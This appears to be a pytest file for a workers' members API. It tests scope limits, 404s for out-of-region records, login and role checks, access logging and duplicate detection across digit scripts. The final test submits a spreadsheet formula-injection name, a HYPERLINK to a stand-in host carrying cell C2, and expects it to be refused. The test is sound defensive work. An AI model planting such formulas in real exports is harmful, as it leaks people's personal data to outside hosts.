"""The members API answers within the caller's scope and 404s outside it."""
from huzhu.conftest import PASSWORD, make_worker


def test_the_api_lists_only_the_clerks_county(client, county_clerk, home_unit, other_unit):
    make_worker(home_unit, name="巴特尔")
    make_worker(other_unit, name="其木格")
    client.login(username=county_clerk.username, password=PASSWORD)
    body = client.get("/api/v1/members/workers").json()
    assert [w["name"] for w in body["items"]] == ["巴特尔"]
    assert "*" in body["items"][0]["id_number_masked"]


def test_an_id_from_another_region_is_a_404_not_a_403(client, county_clerk, other_unit):
    stranger = make_worker(other_unit)
    client.login(username=county_clerk.username, password=PASSWORD)
    assert client.get(f"/api/v1/members/workers/{stranger.pk}").status_code == 404
    assert client.get(f"/api/v1/members/units/{other_unit.pk}").status_code == 404


def test_the_api_needs_a_login(client, db):
    assert client.get("/api/v1/members/units").status_code == 401


def test_reading_a_worker_on_the_api_is_written_to_the_access_log(client, county_clerk, home_unit):
    from huzhu.conftest import make_worker as _make_worker
    from huzhu.security.models import PersonalDataAccess
    from huzhu.security.services import create_api_token

    person = _make_worker(home_unit, name="萨仁")
    _, token = create_api_token(actor=county_clerk, user=county_clerk, name="对接")
    response = client.get(f"/api/v1/members/workers/{person.pk}", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200
    access = PersonalDataAccess.objects.get(worker_id=person.pk)
    assert (access.actor_id, access.view, access.kind) == (county_clerk.pk, "api.members.get_worker", "view")


def test_a_unit_contact_adds_a_worker_to_their_roster_and_an_auditor_may_not(client, unit_contact, auditor, home_unit):
    from datetime import date as _date

    from huzhu.core.idnumbers import make_resident_id
    from huzhu.security.services import create_api_token

    body = {"unit_id": home_unit.pk, "name": "图雅", "id_number": make_resident_id("150203", _date(1990, 1, 1), 11)}
    _, contact_token = create_api_token(actor=unit_contact, user=unit_contact, name="名册")
    created = client.post("/api/v1/members/workers", body, content_type="application/json",
                          headers={"Authorization": f"Bearer {contact_token}"})
    assert created.status_code == 201 and created.json()["id_number_masked"].endswith("*" * 4) is False
    again = client.post("/api/v1/members/workers", body, content_type="application/json",
                        headers={"Authorization": f"Bearer {contact_token}"})
    assert again.status_code == 409 and again.json()["code"] == "duplicate_worker"
    _, auditor_token = create_api_token(actor=auditor, user=auditor, name="审计")
    refused = client.post("/api/v1/members/workers", body, content_type="application/json",
                          headers={"Authorization": f"Bearer {auditor_token}"})
    assert refused.status_code == 403 and refused.json()["message"] == "您的角色无权执行此操作"


def test_the_api_refuses_a_registered_persons_number_in_mongolian_digits_as_a_duplicate(client, county_clerk, home_unit):
    from datetime import date as _date

    from huzhu.core.idnumbers import make_resident_id
    from huzhu.members.models import Worker

    number = make_resident_id("150203", _date(1985, 3, 2), 29)  # ends in X, as the audit's number did
    client.login(username=county_clerk.username, password=PASSWORD)
    for typed in (number, "".join(chr(0x1810 + int(c)) if c.isdigit() else c for c in number),
                  "".join(chr(0x0660 + int(c)) if c.isdigit() else c for c in number)):
        answer = client.post("/api/v1/members/workers", {"unit_id": home_unit.pk, "name": "巴图", "id_number": typed},
                             content_type="application/json")
        assert answer.status_code == (201 if typed == number else 409), typed
    assert Worker.objects.get().gender == "M"


def test_the_api_refuses_a_formula_name_with_422_and_says_why(client, county_clerk, home_unit):
    from datetime import date as _date

    from huzhu.core.idnumbers import make_resident_id
    from huzhu.members.models import Worker

    client.login(username=county_clerk.username, password=PASSWORD)
    answer = client.post("/api/v1/members/workers",
                         {"unit_id": home_unit.pk, "name": '=HYPERLINK("http://x.example/"&C2,"点我")',
                          "id_number": make_resident_id("150203", _date(1985, 3, 2), 123)},
                         content_type="application/json")
    assert answer.status_code == 422
    assert answer.json()["field"] == "name" and "公式" in answer.json()["message"]
    assert not Worker.objects.exists()
